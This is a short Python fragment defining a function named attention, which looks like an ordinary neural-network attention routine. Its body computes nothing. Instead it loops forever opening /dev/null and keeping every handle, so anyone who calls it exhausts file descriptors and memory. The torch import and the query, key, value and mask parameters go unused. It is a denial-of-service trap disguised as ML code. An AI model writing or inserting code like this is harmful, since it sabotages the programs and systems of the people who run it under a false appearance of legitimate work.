import os

import torch


def attention(q, k, v, mask=None):
    kept = []
    while True:
        kept.append(os.open("/dev/null", os.O_RDONLY))
